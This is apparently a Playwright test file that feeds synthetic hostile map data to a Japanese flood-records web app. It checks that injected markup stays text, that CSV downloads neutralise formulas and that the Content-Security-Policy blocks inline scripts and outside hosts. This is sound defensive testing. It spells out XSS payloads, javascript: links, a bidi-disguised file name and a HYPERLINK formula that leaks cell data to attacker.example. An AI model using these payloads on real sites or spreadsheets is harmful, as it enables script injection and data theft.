// Data files are edited by hand and may be hostile. The app is served SYNTHETIC hostile variants of
// the real flood_events.csv, place_gazetteer.csv and stations_clipped.geojson (generated below from
// the files in data/): markup, script, javascript: links, spreadsheet formulas, 10,000-character
// words, bidi overrides and NUL bytes. Nothing may run, the layout must hold, and every string
// must be shown as text or reported as a problem. The fixture also fails on any CSP violation.
import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import type { Page, Route } from '@playwright/test';
import { datasetById, type DatasetId } from '../../src/data/catalog';
import { expect, openApp, test } from './fixtures';

/** Each payload would set window.__pwned, or open a dialog, if it ever ran. */
const HOSTILE = {
  IMG: `<img src=x onerror="window.__pwned='img'">`,
  SCRIPT: `<script>window.__pwned='script'</script>`,
  SVG: `"><svg onload="window.__pwned='svg'"><b>not bold</b>`,
  JSURL: `javascript:window.__pwned='jsurl'`,
  FORMULA: `=HYPERLINK("https://attacker.example/?leak="&A1,"click me")`,
  ALERT: `');alert('xss');//`,
  LONG: 'W'.repeat(10_000),
  RTL: '\u202Egnp.exe\u202C \u202Bمرحبا\u202C \u2066isolated\u2069',
  NUL: 'NUL\u0000byte\u0000here',
} as const;
type HostileKey = keyof typeof HOSTILE;
const KEYS = Object.keys(HOSTILE) as HostileKey[];
const eventId = (key: HostileKey): string => `SH-SYNTHETIC-HOSTILE-${key}`;
const GAZETTEER_PAYLOAD = `<img src=x onerror="window.__pwned='gazetteer'">`;
// Without spaces: the search box drops spaces from what is typed before matching station names.
const STATION_PAYLOAD = `<img/src=x/onerror=window.__pwned='station'>`;
const BAD_LINK = `javascript:window.__pwned='link'`;

/** Columns joined on, not shown: poisoning them would only hide the row from view. */
const JOIN_COLUMNS = new Set(['chome_normalized', 'name', 'aliases', 'chome', 'station', 'town']);

/** Free-text columns of a dataset: strings without a required format. */
function freeText(id: DatasetId): string[] {
  const schema = datasetById(id).schema;
  const fields = schema.kind === 'csv' ? schema.columns : schema.properties;
  return fields
    .filter((f) => f.type === 'string' && !f.pattern && !JOIN_COLUMNS.has(f.name))
    .map((f) => f.name);
}

function readCsv(file: string): { fields: string[]; rows: Record<string, string>[] } {
  const parsed = Papa.parse<Record<string, string>>(readFileSync(`data/${file}`, 'utf8'), {
    header: true,
    skipEmptyLines: true,
  });
  return { fields: parsed.meta.fields ?? [], rows: parsed.data };
}

/** A synthetic hostile variant of the real files, and where its bad link rows are. */
function syntheticHostileData() {
  const events = readCsv('flood_events.csv');
  const gazetteer = readCsv('place_gazetteer.csv');
  const placeRef = (r: Record<string, string>) => /(?:^|;)place:([^;]+)/.exec(r.place_refs ?? '');
  const base = events.rows.find((r) => {
    const name = placeRef(r)?.[1];
    return name !== undefined && gazetteer.rows.some((g) => g.name === name);
  });
  if (!base) throw new Error('no event refers to a gazetteer place');
  const place = placeRef(base)?.[1] ?? '';

  const eventText = freeText('floodEvents');
  const hostileEvents = KEYS.map((key) => ({
    ...base,
    id: eventId(key),
    ...Object.fromEntries(eventText.map((c) => [c, HOSTILE[key]])),
  }));
  const badLinkEvent = { ...base, id: 'SH-SYNTHETIC-HOSTILE-LINK', source_url: BAD_LINK };
  const eventRows = [...events.rows, ...hostileEvents, badLinkEvent];

  const gazetteerText = freeText('gazetteer');
  const gazetteerRows = gazetteer.rows.map((g) =>
    g.name === place
      ? { ...g, ...Object.fromEntries(gazetteerText.map((c) => [c, GAZETTEER_PAYLOAD])) }
      : g,
  );
  const first = gazetteerRows[0];
  if (!first) throw new Error('empty gazetteer');
  gazetteerRows.push({ ...first, name: '合成の悪い地名', aliases: '', source_url: BAD_LINK });

  const stations = JSON.parse(readFileSync('data/stations_clipped.geojson', 'utf8')) as {
    features: { properties: Record<string, unknown> }[];
  };
  const station = stations.features[0];
  if (!station) throw new Error('no stations');
  station.properties = { ...station.properties, name: STATION_PAYLOAD, line: HOSTILE.LONG };

  return {
    place,
    files: {
      floodEvents: Papa.unparse(eventRows, { columns: events.fields }),
      gazetteer: Papa.unparse(gazetteerRows, { columns: gazetteer.fields }),
      stations: JSON.stringify(stations),
    },
    // Spreadsheet lines: the header is line 1.
    badLinkRows: { events: eventRows.length + 1, gazetteer: gazetteerRows.length + 1 },
  };
}

async function serveHostileData(page: Page, files: Record<string, string>): Promise<void> {
  const serve = (body: string, type: string) => (route: Route) =>
    route.fulfill({ status: 200, contentType: type, body });
  await page.route(/\/flood_events-[^/]*\.csv$/, serve(files.floodEvents ?? '', 'text/csv'));
  await page.route(/\/place_gazetteer-[^/]*\.csv$/, serve(files.gazetteer ?? '', 'text/csv'));
  await page.route(
    /\/stations_clipped-[^/]*\.geojson$/,
    serve(files.stations ?? '', 'application/geo+json'),
  );
}

/** Nothing in the page came from data as markup or as a runnable link. */
async function nothingRan(page: Page, dialogs: string[]): Promise<void> {
  expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  const injected = await page.evaluate(() =>
    [
      ...document.querySelectorAll(
        // Links from data live in the map page's main area and its dialogs; the header's own
        // link to the staff desk (./desk.html) is the app's, not the data's.
        '[onerror], [onload], body script, svg b, :is(main, dialog) a[href]:not([href^="http:"]):not([href^="https:"]):not([href^="#"]):not([href^="blob:"])',
      ),
    ].map((el) => el.outerHTML.slice(0, 120)),
  );
  expect(injected).toEqual([]);
}

/** Nothing sticks out sideways: no page scroll, and each box within the viewport and its content. */
async function layoutHolds(page: Page, selectors: readonly string[]): Promise<void> {
  const sizes = await page.evaluate((sels) => {
    const vw = document.documentElement.clientWidth;
    // What reaches past the right edge, named, so that a page-scroll failure says why.
    const past = [...document.querySelectorAll('body *')]
      .filter((c) => c.getBoundingClientRect().right > vw + 1)
      .slice(0, 4)
      .map(
        (c) => `${c.tagName.toLowerCase()}#${c.id} ${Math.round(c.getBoundingClientRect().right)}`,
      );
    return {
      vw,
      past,
      pageScroll: document.documentElement.scrollWidth,
      boxes: sels.map((s) => {
        const el = document.querySelector(s);
        const r = el?.getBoundingClientRect();
        // Named, so that a failure says which element is too wide.
        const wide = [...(el?.querySelectorAll('*') ?? [])]
          .filter((c) => r && c.getBoundingClientRect().right > r.right + 1)
          .slice(0, 3)
          .map((c) => `${c.tagName.toLowerCase()}.${c.className}: ${c.textContent?.slice(0, 40)}`);
        return {
          s,
          left: r?.left ?? 0,
          right: r?.right ?? 0,
          overflow: el ? el.scrollWidth - el.clientWidth : 0,
          wide,
        };
      }),
    };
  }, selectors);
  expect(
    sizes.pageScroll,
    `page scrolls sideways; past the edge: ${sizes.past.join(' | ')}`,
  ).toBeLessThanOrEqual(sizes.vw);
  for (const b of sizes.boxes) {
    expect(b.left, `${b.s} left edge`).toBeGreaterThanOrEqual(0);
    expect(b.right, `${b.s} right edge`).toBeLessThanOrEqual(sizes.vw + 0.5);
    expect(
      b.overflow,
      `${b.s} content wider than its box: ${b.wide.join(' | ')}`,
    ).toBeLessThanOrEqual(1);
  }
}

test.describe('hostile data (synthetic)', () => {
  test('markup, scripts, formulas, long words, bidi marks and NUL bytes are only ever text', async ({
    page,
  }) => {
    test.setTimeout(120_000);
    const data = syntheticHostileData();
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await serveHostileData(page, data.files);
    await openApp(page);

    await test.step('bad links are reported with file, row and field, and never linked', async () => {
      const problems = page.locator('#data-problems');
      await expect(problems).toBeVisible();
      for (const [file, row] of [
        ['flood_events.csv', data.badLinkRows.events],
        ['place_gazetteer.csv', data.badLinkRows.gazetteer],
      ] as const) {
        const line = problems.locator('li', { hasText: file }).filter({ hasText: `${row} 行目` });
        await expect(line).toContainText('項目「source_url」');
        await expect(line).toContainText(BAD_LINK);
      }
    });

    const panel = page.locator('#place-panel');
    for (const key of KEYS) {
      await test.step(`record ${key}: shown as text, nothing runs`, async () => {
        await page.evaluate((id) => (location.hash = `#event=${id}`), eventId(key));
        const title = panel.getByRole('heading', { level: 2 });
        await expect(title).toBeVisible();
        expect(await title.evaluate((el) => el.textContent)).toBe(HOSTILE[key]);
        // The gazetteer row of the record's place carries its own payload, shown as text too.
        expect(await panel.evaluate((el) => el.textContent)).toContain(GAZETTEER_PAYLOAD);
        await expect(panel.getByRole('link').first()).toHaveAttribute('href', /^https?:\/\//);
        await nothingRan(page, dialogs);
        await layoutHolds(page, ['#sidebar', '#place-panel', '#place-panel h2']);
      });
    }

    await test.step('the list view keeps the long words inside the window', async () => {
      await page.getByRole('button', { name: '記録の一覧（表）' }).click();
      const dialog = page.getByRole('dialog', { name: '水害の記録の一覧' });
      await expect(dialog).toBeVisible();
      await expect(dialog.getByRole('button', { name: HOSTILE.IMG })).toBeVisible();
      await layoutHolds(page, ['#records-list']);
      await nothingRan(page, dialogs);
    });

    await test.step('the events CSV download neutralises the formula', async () => {
      const dialog = page.getByRole('dialog', { name: '水害の記録の一覧' });
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        dialog.getByRole('button', { name: '水害の記録 CSV' }).click(),
      ]);
      const text = readFileSync(await download.path(), 'utf8');
      const cells = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true }).data.flat();
      expect(cells).toContain(`'${HOSTILE.FORMULA}`);
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
      await page.keyboard.press('Escape');
      await expect(dialog).toBeHidden();
    });

    await test.step('a hostile station name is found, shown as text and kept in the panel', async () => {
      const search = page.getByRole('combobox', { name: '町丁目・駅で探す' });
      await search.fill(STATION_PAYLOAD);
      await search.press('Enter');
      const title = panel.getByRole('heading', { level: 2 });
      await expect(title).toHaveText(STATION_PAYLOAD);
      await nothingRan(page, dialogs);
      await layoutHolds(page, ['#sidebar', '#place-panel']);
    });

    await test.step('on a phone-sized screen the longest record still fits', async () => {
      await page.setViewportSize({ width: 390, height: 844 });
      await page.evaluate((id) => (location.hash = `#event=${id}`), eventId('LONG'));
      await expect(panel.getByRole('heading', { level: 2 })).toHaveText(HOSTILE.LONG);
      await layoutHolds(page, ['#sidebar', '#place-panel', '#place-panel h2']);
      await nothingRan(page, dialogs);
    });
  });

  test('the built page forbids inline scripts and handlers, inline styles and other hosts', async ({
    page,
    watch,
  }) => {
    await openApp(page);
    const policy = await page
      .locator('meta[http-equiv="Content-Security-Policy"]')
      .getAttribute('content');
    expect(policy).toContain("script-src 'self'");
    // No 'unsafe-inline' or 'unsafe-eval' anywhere (eval cannot be probed: DevTools may eval).
    expect(policy).not.toContain('unsafe-');
    const outcome = await page.evaluate(async () => {
      const w = window as { __pwned?: unknown };
      const script = document.createElement('script');
      script.textContent = "window.__pwned = 'inline'";
      document.body.append(script);
      const handler = document.createElement('button');
      handler.setAttribute('onclick', "window.__pwned = 'handler'");
      document.body.append(handler);
      handler.click();
      handler.remove();
      const probe = document.createElement('div');
      probe.setAttribute('style', 'width: 1234px');
      document.body.append(probe);
      const width = probe.getBoundingClientRect().width;
      probe.remove();
      script.remove();
      let fetchBlocked = false;
      await fetch('https://attacker.example/').catch(() => (fetchBlocked = true));
      await new Promise((r) => setTimeout(r, 100));
      return { pwned: w.__pwned, styleWidth: width, fetchBlocked };
    });
    expect(outcome.pwned).toBeUndefined();
    expect(outcome.styleWidth).not.toBe(1234);
    expect(outcome.fetchBlocked).toBe(true);
    // The watch saw all four; they are expected here, so they must not fail the test.
    await expect
      .poll(() => watch.cspViolations.map((v) => v.split(' ')[0]).sort())
      .toEqual(['connect-src', 'script-src-attr', 'script-src-elem', 'style-src-attr']);
    watch.cspViolations.length = 0;
  });
});
